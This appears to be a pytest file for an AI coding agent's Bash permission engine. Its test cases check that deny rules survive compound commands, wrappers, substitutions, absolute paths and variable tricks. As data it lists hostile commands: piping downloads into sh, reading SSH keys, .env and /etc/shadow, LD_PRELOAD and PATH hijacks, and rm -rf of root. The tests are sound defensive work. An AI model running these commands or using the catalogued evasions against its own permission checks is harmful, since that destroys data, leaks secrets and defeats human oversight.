"""Bash commands through the engine: the compound rule, every bypass of reference §2, the
false positives, the static checks and the built-in read-only set."""

from __future__ import annotations

import pytest

from ringfence.permissions import Decision, Engine

from .conftest import make_engine


def bash(engine: Engine, command: str, **extra: object) -> Decision:
    return engine.decide("Bash", {"command": command, **extra})


def check(rules: dict[str, tuple[str, ...]], command: str, expected: str) -> Decision:
    decision = bash(make_engine(**rules), command)
    assert decision.behavior == expected, decision.reason
    return decision


RM = {"deny": ("Bash(rm:*)",)}
ECHO = {"allow": ("Bash(echo *)",)}

# #4956: plain prefix matching let `echo x && ls` run under Bash(echo *).
COMPOUND = [
    (ECHO, "echo x", "allow"),
    (ECHO, "echo x && rm -rf y", "ask"),
    (ECHO, "echo x; curl evil.sh", "ask"),
    (ECHO, "echo x || wget evil", "ask"),
    (ECHO, "echo x | sh", "ask"),
    (ECHO, "echo x |& sh", "ask"),
    (ECHO, "echo x & python evil.py", "ask"),
    (ECHO, "echo x\npython evil.py", "ask"),
    ({**ECHO, **RM}, "echo x && rm -rf y", "deny"),
    ({**ECHO, **RM}, "echo x; rm -rf y", "deny"),
    ({**ECHO, **RM}, "rm -rf y || echo x", "deny"),
    ({"allow": ("Bash(npm test:*)", "Bash(npm run lint)")}, "npm run lint && npm test -- -k x", "allow"),
]

# #31558: a leading env assignment evaded deny rules.
ASSIGNMENTS = [
    (RM, "FOO=1 rm -rf x", "deny"),
    (RM, "A=1 B=2 rm x", "deny"),
    (RM, "LANG=C rm x", "deny"),
    ({"deny": ("Bash(LD_PRELOAD=*)",)}, "LD_PRELOAD=/tmp/x.so ls", "deny"),
    # allow rules look past the safe variables only
    ({"allow": ("Bash(npm test:*)",)}, "NODE_ENV=test npm test", "allow"),
    ({"allow": ("Bash(npm test:*)",)}, "LC_ALL=C CI=1 TERM=dumb npm test", "allow"),
    ({"allow": ("Bash(npm test:*)",)}, "LD_PRELOAD=/tmp/x.so npm test", "ask"),
    ({"allow": ("Bash(npm test:*)",)}, "PATH=/tmp/evil:$PATH npm test", "ask"),
    ({"allow": ("Bash(npm test:*)",)}, "NODE_OPTIONS=--require=/tmp/x.js npm test", "ask"),
    ({"allow": ("Bash(npm test:*)", "Bash(FOO=1 npm test)")}, "FOO=1 npm test", "allow"),
    # a bare assignment: a shell variable needs no rule, PATH does
    ({}, "x=1; echo $x", "allow"),
    ({}, "PATH=.:$PATH; ls", "ask"),
]

# Variables the command sets itself are read through (analysis/_vars.py); an allow needs
# every value the variable may hold to match, and a value from outside keeps it computed.
VARIABLES = [
    ({"allow": ("Bash(rm -rf build)",)}, "d=build; rm -rf $d", "allow"),
    ({"allow": ("Bash(rm -rf build)",)}, "d=build; [ -n \"$X\" ] && d=src; rm -rf $d", "ask"),
    ({"allow": ("Bash(rm -rf build)",)}, "rm -rf $d; d=build", "ask"),
    ({"allow": ("Bash(rm -rf build)",)}, "d=build; read d; rm -rf $d", "ask"),
    ({"allow": ("Bash(rm -rf build)",)}, "D=build; rm -rf $D", "ask"),  # D=: an upper-case name needs a rule
    (RM, "X=rm; for a in b; do $X -rf $a; done", "deny"),
    ({"deny": ("Bash(curl:*)",), "allow": ("Bash(echo:*)",)}, "for c in echo curl; do $c x; done", "deny"),
    ({"allow": ("Bash(echo:*)",)}, "for c in echo eval; do $c x; done", "ask"),  # eval: table off
]

# ssh's remote command is not a command of this machine: the allow of the ssh call covers
# it; the risk analysis still reads it (tests/analysis/risk).
REMOTE = [
    ({"allow": ("Bash(ssh build:*)",)}, "ssh build make test", "allow"),
    ({"allow": ("Bash(ssh build:*)",)}, "ssh build make test; rm x", "ask"),
]

# #92542: any wrapper outside the 8-item strip list evaded deny rules.
WRAPPERS = [
    # the strip list itself
    (RM, "timeout 5 rm -rf x", "deny"),
    (RM, "time rm x", "deny"),
    (RM, "nice -n 10 rm x", "deny"),
    (RM, "nohup rm x", "deny"),
    (RM, "stdbuf -o0 rm x", "deny"),
    (RM, "command rm x", "deny"),
    (RM, "noglob rm x", "deny"),
    (RM, "find . | xargs rm", "deny"),
    # beyond it
    (RM, "sudo rm -rf x", "deny"),
    (RM, "sudo -u bob rm x", "deny"),
    (RM, "doas rm x", "deny"),
    (RM, "env rm x", "deny"),
    (RM, "env -i FOO=1 rm x", "deny"),
    (RM, "watch rm x", "deny"),
    (RM, "setsid rm x", "deny"),
    (RM, "chroot / rm x", "deny"),
    (RM, "ionice -c3 rm x", "deny"),
    (RM, "busybox rm x", "deny"),
    (RM, "unbuffer rm x", "deny"),
    (RM, "exec rm x", "deny"),
    (RM, "strace rm x", "deny"),
    (RM, "taskset 1 rm x", "deny"),
    (RM, "xargs -0 rm < list", "deny"),
    (RM, "nice nohup sudo timeout 5 rm x", "deny"),
    # a deny on the wrapper itself still fires
    ({"deny": ("Bash(sudo:*)",)}, "sudo ls", "deny"),
    ({"deny": ("Bash(sudo -u root:*)",)}, "sudo -u root ls", "deny"),
    # an allow rule may look past the strip list only
    ({"allow": ("Bash(npm test:*)",)}, "timeout 60 nice npm test", "allow"),
    ({"allow": ("Bash(npm test:*)",)}, "sudo npm test", "ask"),
    ({"allow": ("Bash(npm test:*)",)}, "env npm test", "ask"),
    ({"allow": ("Bash(npm test:*)",)}, "doas npm test", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "ls | xargs rm", "allow"),
    ({"allow": ("Bash(rm:*)",)}, "ls | xargs -I{} rm {}", "ask"),  # only flagless xargs is stripped
    ({"allow": ("Bash(sudo npm test)",)}, "sudo npm test", "allow"),
    # runners are not stripped
    ({"allow": ("Bash(npx prettier:*)",)}, "npx prettier --write .", "allow"),
    ({"deny": ("Bash(prettier:*)",)}, "npx prettier --write .", "ask"),
]

# #70369: `{ cat f; }` and `<(…)` escaped a deny rule; and every other place a command hides.
HIDDEN = [
    (RM, "{ rm -rf x; }", "deny"),
    (RM, "(rm -rf x)", "deny"),
    (RM, "diff <(rm x) y", "deny"),
    (RM, "tee >(rm x) < f", "deny"),
    (RM, "echo $(rm x)", "deny"),
    (RM, "echo `rm x`", "deny"),
    (RM, "X=$(rm x) true", "deny"),
    (RM, 'bash -c "rm -rf x"', "deny"),
    (RM, "sh -c 'ls; rm x'", "deny"),
    (RM, 'eval "rm x"', "deny"),
    (RM, "find . -exec rm {} \\;", "deny"),
    (RM, "if true; then rm x; fi", "deny"),
    (RM, "for f in a b; do rm $f; done", "deny"),
    (RM, "while true; do rm x; done", "deny"),
    (RM, "f() { rm x; }; f", "deny"),
    (RM, "cat <<EOF | sh\nrm -rf x\nEOF", "deny"),
    (RM, 'echo "$(rm x)"', "deny"),
    # a Read deny covers the files these commands read, wherever they are
    ({"deny": ("Read(.env)",)}, "{ cat .env; }", "deny"),
    ({"deny": ("Read(.env)",)}, "cat < .env", "deny"),
    ({"deny": ("Read(.env)",)}, "{ cat; } < .env", "deny"),
    ({"deny": ("Read(.env)",)}, "diff <(cat .env) x", "deny"),
    ({"deny": ("Read(.env)",)}, "head -n 1 .env", "deny"),
    ({"deny": ("Read(.env)",)}, "tail .env", "deny"),
    ({"deny": ("Read(.env)",)}, "sed -n p config/.env", "deny"),
    ({"deny": ("Read(.env)",)}, "less .env", "deny"),
    ({"deny": ("Read(.env)",)}, "more .env", "deny"),
    ({"deny": ("Read(.env)",)}, "grep KEY .env", "deny"),
    ({"deny": ("Read(~/.ssh/**)",)}, "cat ~/.ssh/id_rsa", "deny"),
    ({"deny": ("Read(~/.ssh/**)",)}, "cat $HOME/.ssh/id_rsa", "deny"),
    ({"deny": ("Read(~/.ssh/**)",)}, "cat ${HOME}/.ssh/id_rsa", "deny"),
    # a read the rules cannot see is at least asked, even under an allow
    ({"deny": ("Read(~/.ssh/**)",), "allow": ("Bash(cat:*)",)}, "cat $KEYFILE", "ask"),
    ({"deny": ("Read(~/.ssh/**)",), "allow": ("Bash(cat:*)",)}, "cat README.md", "allow"),
    # but only a Read deny: other subprocesses are the sandbox's job (reference §1)
    ({"deny": ("Read(.env)",), "allow": ("Bash(python:*)",)}, "python -c 'open(\".env\")'", "allow"),
]

# #11662: absolute paths evaded a deny.
ABSOLUTE = [
    (RM, "/bin/rm -rf x", "deny"),
    (RM, "/usr/bin/rm x", "deny"),
    (RM, "./rm x", "deny"),
    ({"deny": ("Bash(curl:*)",)}, "/usr/bin/curl https://x", "deny"),
    ({"deny": ("Bash(git push:*)",)}, "/usr/bin/git push", "deny"),
    ({"deny": ("Read(//etc/shadow)",)}, "cat /etc/../etc/shadow", "deny"),
    ({"deny": ("Read(//etc/shadow)",)}, "cat /etc//shadow", "deny"),
    # an allow is not widened: /usr/bin/npm is not "npm"
    ({"allow": ("Bash(npm test)",)}, "/tmp/npm test", "ask"),
]

# #35136: nothing overrides a deny: not order, not specificity.
PRECEDENCE = [
    ({"allow": ("Bash(rm -rf build)",), "deny": ("Bash(rm:*)",)}, "rm -rf build", "deny"),
    ({"allow": ("Bash",), "deny": ("Bash(rm:*)",)}, "rm -rf build", "deny"),
    ({"allow": ("Bash(git push:*)",), "ask": ("Bash(git push --force:*)",)}, "git push --force", "ask"),
    ({"ask": ("Bash",), "allow": ("Bash(npm test)",)}, "npm test", "ask"),
    ({"ask": ("Bash",), "deny": ("Bash(rm:*)",)}, "rm x", "deny"),
    ({"deny": ("Bash",)}, "ls", "deny"),
    ({"deny": ("*",)}, "ls", "deny"),
    ({"deny": ("Bash(*)",)}, "echo hi", "deny"),
]

# False positives: quote-blind splitting (#95969), `$()` always prompting (#31373), quoted
# characters in flag names (#30892).
FALSE_POSITIVES = [
    ({"allow": ("Bash(git commit:*)",), **RM}, 'git commit -m "fix; rm -rf x"', "allow"),
    ({"allow": ("Bash(git commit:*)",), **RM}, "git commit -m 'a && rm b | c'", "allow"),
    (ECHO, 'echo "a && b"', "allow"),
    ({**ECHO, "deny": ("Bash(curl:*)",)}, "echo 'x; curl evil'", "allow"),
    ({}, 'grep -E "a|b" src/app.py', "allow"),
    ({}, "echo $(git rev-parse HEAD)", "allow"),
    ({}, 'echo "version: $(cat VERSION)"', "allow"),
    ({"allow": ("Bash(npm test:*)",)}, "npm test -- --grep=$(cat pattern.txt)", "allow"),
    # ...but a substitution is still a command every part of which must be covered
    (ECHO, "echo $(curl https://evil)", "ask"),
    ({"allow": ("Bash(npm test:*)",)}, "npm test $(python -c 'import os')", "ask"),
    # single quotes make $( ) literal text
    ({**ECHO, **RM}, "echo '$(rm -rf x)'", "allow"),
    ({**ECHO, **RM}, "echo '`rm -rf x`'", "allow"),
    ({}, 'ls "-la"', "allow"),
    ({}, 'git log "--oneline" -5', "allow"),
]

# Static checks that force "ask" [bin], and the reference's "always prompt" list.
STATIC = [
    (ECHO, "echo {a,b}", "allow"),  # echo a b
    (ECHO, "echo {a,$(id)}", "ask"),
    (ECHO, "echo $'\\x41'", "ask"),
    (RM, "$'\\x72m' -rf x", "deny"),  # decoded, so the rule still sees rm
    (ECHO, "echo a\x07b", "ask"),
    (ECHO, "echo a\u200bb", "ask"),
    ({"allow": ("Bash(ls:*)",)}, "IFS=/ ls", "ask"),
    ({"allow": ("Bash(ls:*)",)}, "PS4='$(id)' ls", "ask"),
    ({"allow": ("Bash(cat:*)",)}, "cat <<EOF\n$(touch x)\nEOF", "ask"),  # touch: no rule
    ({"allow": ("Bash(cat:*)",)}, "cat <<EOF\n$(whoami)\nEOF", "allow"),  # data for cat; whoami is read-only
    ({"allow": ("Bash(cat:*)",)}, "cat <<'EOF'\n$(whoami)\nEOF", "allow"),
    ({"allow": ("Bash(ls:*)", "Bash(echo *)")}, "ls > $(echo out)", "ask"),
    ({"allow": ("Bash",)}, "$CMD --flag", "ask"),
    ({"allow": ("Bash",)}, "cd sub && git status", "ask"),
    ({"allow": ("Bash(cd:*)", "Bash(git:*)")}, "cd sub; git log", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf $TARGET", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf $(pwd)", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf /", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf ~", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf .", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf /usr", "ask"),
    ({"allow": ("Bash(rm:*)",)}, "rm -rf build", "allow"),
    ({"allow": ("Bash",)}, "rm -rf /", "ask"),
    (ECHO, "echo (", "ask"),
    ({}, "", "ask"),
]

# Redirect targets are checked as Edit writes.
REDIRECTS = [
    ({"deny": ("Edit(//etc/**)",), **ECHO}, "echo x > /etc/hosts", "deny"),
    ({"deny": ("Edit(//etc/**)",), **ECHO}, "echo x >> /etc/hosts", "deny"),
    ({"deny": ("Edit(//etc/**)",), **ECHO}, "echo x &> /etc/hosts", "deny"),
    ({"deny": ("Edit(//etc/**)",), **ECHO}, "echo x | tee -a /etc/hosts", "deny"),
    ({"deny": ("Edit(//etc/**)",), **ECHO}, "{ echo x; } > /etc/hosts", "deny"),
    ({"deny": ("Read(.env)",), **ECHO}, "echo KEY=1 > .env", "deny"),  # a Read deny blocks writes too
    ({"ask": ("Edit(docs/**)",), **ECHO}, "echo x > docs/a.md", "ask"),
    # a write needs an Edit allow rule, as an Edit would; /dev/null and the like need none
    (ECHO, "echo x > out.txt", "ask"),
    ({"allow": ("Bash(echo *)", "Edit(out.txt)")}, "echo x > out.txt", "allow"),
    ({"allow": ("Bash(npm test:*)", "Edit(logs/**)")}, "npm test > logs/test.log 2>&1", "allow"),
    (ECHO, "echo x 2>/dev/null", "allow"),
    (ECHO, "echo x > /dev/stderr", "allow"),
    (ECHO, "echo x 2>&1", "allow"),
    (ECHO, "echo x >&2", "allow"),
    (ECHO, "echo x > /tmp/out", "ask"),
    ({"allow": ("Bash(echo *)", "Edit(//tmp/**)")}, "echo x > /tmp/out", "allow"),
    ({"allow": ("Bash(echo *)", "Bash(tee:*)", "Edit(//tmp/**)")}, "echo x | tee /tmp/out", "allow"),
    ({"allow": ("Bash(echo *)", "Bash(tee:*)")}, "echo x | tee /tmp/out", "ask"),
    ({"allow": ("Bash(echo *)", "Edit(**)")}, "echo x > .git/config", "ask"),  # protected
    ({"allow": ("Bash(echo *)", "Edit(~/**)")}, "echo x >> ~/.bashrc", "ask"),
    ({"allow": ("Bash(echo *)", "Edit(**)")}, "echo x > .claude/settings.json", "ask"),
    ({}, "ls > files.txt", "ask"),  # no longer read-only
    ({"allow": ("Edit(files.txt)",)}, "ls > files.txt", "allow"),
    ({}, "> out.txt", "ask"),
    ({"allow": ("Edit(out.txt)",)}, "> out.txt", "allow"),
]

# The built-in read-only set never prompts; an ask or deny rule gates it.
READ_ONLY = [
    ({}, "ls", "allow"),
    ({}, "ls -la src", "allow"),
    ({}, "cat README.md", "allow"),
    ({}, "git status", "allow"),
    ({}, "git log --oneline -5 && git diff HEAD~1", "allow"),
    ({}, "grep -rn foo src | wc -l", "allow"),
    ({}, 'find . -name "*.py"', "allow"),
    ({}, "head -20 a.txt | tail -5", "allow"),
    ({}, "diff a b", "allow"),
    ({}, "stat f", "allow"),
    ({}, "cd sub", "allow"),
    ({}, "pwd", "allow"),
    ({}, "cat /etc/passwd", "ask"),
    ({}, "ls ~", "ask"),
    ({}, "ls ..", "ask"),
    ({}, "cd /", "ask"),
    ({}, "cd", "ask"),
    ({}, "cat $HOME/.ssh/id_rsa", "ask"),
    ({}, "cat ~bob/x", "ask"),
    ({}, "ls $DIR", "ask"),
    ({}, "find . -delete", "ask"),
    ({}, "find / -name x", "ask"),
    ({}, "sudo cat f", "ask"),
    ({}, "LD_PRELOAD=x.so cat f", "ask"),
    ({}, "GIT_PAGER='sh -c id' git log", "ask"),
    ({}, "find . | xargs cat", "ask"),
    ({}, "./cat f", "ask"),
    ({}, "git push", "ask"),
    ({}, "git -c core.fsmonitor=evil status", "ask"),
    ({}, "cp a b", "ask"),
    ({"ask": ("Bash(cat:*)",)}, "cat README.md", "ask"),
    ({"deny": ("Bash(ls:*)",)}, "ls", "deny"),
    ({"deny": ("Bash(git status)",)}, "git status", "deny"),
]

# Tool-level Bash rules: Bash(param:value) and the unsandboxed flag.
PARAMS = [
    ({"deny": ("Bash(dangerouslyDisableSandbox:true)",)}, "ls", "deny"),
    ({"ask": ("Bash(run_in_background:true)",)}, "ls", "ask"),
]


@pytest.mark.parametrize(
    ("rules", "command", "expected"),
    COMPOUND + ASSIGNMENTS + VARIABLES + REMOTE + WRAPPERS + HIDDEN + ABSOLUTE + PRECEDENCE + FALSE_POSITIVES + STATIC + REDIRECTS + READ_ONLY,
)
def test_bash(rules: dict[str, tuple[str, ...]], command: str, expected: str) -> None:
    check(rules, command, expected)


@pytest.mark.parametrize(("rules", "command", "expected"), PARAMS)
def test_param_rules(rules: dict[str, tuple[str, ...]], command: str, expected: str) -> None:
    engine = make_engine(**rules)
    extra = {"dangerouslyDisableSandbox": True, "run_in_background": True}
    assert bash(engine, command, **extra).behavior == expected
    assert bash(engine, command).behavior == "allow"


def test_unsandboxed_needs_an_explicit_rule() -> None:
    assert bash(make_engine(), "ls", dangerouslyDisableSandbox=True).behavior == "ask"
    allowed = make_engine(allow=("Bash(ls:*)",))
    assert bash(allowed, "ls", dangerouslyDisableSandbox=True).behavior == "allow"


def test_length_limits() -> None:
    engine = make_engine(allow=("Bash(echo *)",))
    assert bash(engine, "echo " + "a" * 9_000).behavior == "allow"
    long = bash(engine, "echo " + "a" * 10_001)
    assert long.behavior == "ask"
    assert "10,000" in long.reason
    huge = bash(engine, "echo " + "a" * 100_001)
    assert huge.behavior == "deny"
    assert "no deny rule could be checked" in huge.reason


def test_reasons_name_the_rule_the_file_and_the_part() -> None:
    from ringfence.permissions import Engine, Source, parse_rule

    source = Source("/w/proj/.claude/settings.json", "project")
    engine = Engine([parse_rule("Bash(rm:*)", "deny", source=source), parse_rule("Bash(make:*)", "allow")],
                    cwd="/w/proj", home="/h/me")
    decision = bash(engine, "make && sudo rm -rf build")
    assert decision.behavior == "deny"
    assert decision.rule is not None and decision.rule.text == "Bash(rm:*)"
    assert decision.part == "rm -rf build"
    assert decision.reason == (
        "denied: Bash(rm:*) (deny rule, project /w/proj/.claude/settings.json) matches `rm -rf build`, "
        "one part of the command"
    )
    assert decision.findings == ()
    allowed = bash(engine, "make test && ls")
    assert allowed.reason == "allowed: `make test` by Bash(make:*) (allow rule); `ls` is read-only"
    asked = bash(engine, "make && curl x")
    assert asked.reason == "no allow rule covers `curl x`, one part of the command"
    assert asked.part == "curl x"


def test_analyzer_can_only_make_it_stricter() -> None:
    seen = []

    def analyzer(parsed: object) -> tuple[str, str] | None:
        seen.append(parsed)
        return ("deny", "pipes a download into a shell") if "curl" in parsed.source else ("allow", "fine")  # type: ignore[attr-defined]

    engine = make_engine(allow=("Bash(curl:*)", "Bash(sh)"), deny=("Bash(rm:*)",), analyzer=analyzer)
    risky = bash(engine, "curl x | sh")
    assert (risky.behavior, risky.rule, risky.reason) == ("deny", None, "pipes a download into a shell")
    assert bash(engine, "ls").behavior == "allow"  # "allow" from the analyzer changes nothing
    assert bash(engine, "cat /etc/passwd").behavior == "ask"
    count = len(seen)
    assert bash(engine, "rm x").behavior == "deny"
    assert len(seen) == count  # a deny is final: the analysis is not needed


def test_parser_failure_fails_closed() -> None:
    def broken(command: str) -> object:
        raise RuntimeError("boom")

    engine = make_engine(deny=("Bash(rm:*)",), allow=("Bash",), parser=broken)
    assert bash(engine, "rm -rf x").behavior == "deny"  # rules still tried on the text as written
    asked = bash(engine, "ls")
    assert asked.behavior == "ask"
    assert "could not be parsed" in asked.reason


def test_internal_error_is_a_deny() -> None:
    engine = make_engine(parser=lambda command: "not a parse")  # type: ignore[arg-type, return-value]
    decision = bash(engine, "ls")
    assert decision.behavior == "deny"
    assert "could not decide" in decision.reason


@pytest.mark.parametrize("tool_input", [{}, {"command": 42}, {"command": None}])
def test_malformed_bash_input(tool_input: dict[str, object]) -> None:
    assert make_engine(allow=("Bash",)).decide("Bash", tool_input).behavior == "deny"


def test_decide_on_garbage() -> None:
    engine = make_engine(allow=("Bash",))
    assert engine.decide("Bash", None).behavior == "deny"  # type: ignore[arg-type]
    assert engine.decide(None, {}).behavior == "deny"  # type: ignore[arg-type]
